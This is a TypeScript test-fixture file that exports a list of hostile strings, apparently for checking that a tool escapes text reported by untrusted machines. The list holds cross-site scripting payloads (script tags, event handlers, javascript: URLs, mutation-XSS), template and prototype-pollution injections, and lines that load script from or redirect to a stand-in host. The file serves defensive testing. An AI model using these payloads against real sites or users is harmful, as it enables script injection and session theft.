// SPDX-License-Identifier: GPL-2.0-or-later
// What a hostile machine may say of itself: markup, scripts, templates, and characters that hide or turn round what stands beside them.

/** Each on one line; the tests put every one of them into every text that a machine can report. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '"><script src=//192.0.2.1/x.js></script>',
  "'-alert(4)-'",
  '</pre><iframe srcdoc="<script>parent.alert(5)</script>"></iframe>',
  '</script><script>alert(6)</script>',
  '</textarea><script>alert(7)</script>',
  '<a href="javascript:alert(8)">click</a>',
  'javascript:alert(9)',
  '<body onpageshow=alert(10)>',
  '<details open ontoggle=alert(11)>',
  '<input autofocus onfocus=alert(12)>',
  '<style>*{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
  '<base href="http://192.0.2.1/">',
  '<form action="http://192.0.2.1/"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
  '{{constructor.constructor("alert(14)")()}}',
  '${alert(15)}',
  '<!--<img src="--><img src=x onerror=alert(16)//">',
  '&lt;script&gt;alert(17)&lt;/script&gt;',
  '<x contenteditable onblur=alert(18)>lose focus</x>',
  '__proto__[toString]=alert(19)',
  'data:text/html,<script>alert(20)</script>',
  `${'A'.repeat(60)}<b onmouseover=alert(21)>${'B'.repeat(40)}`,
] as const;
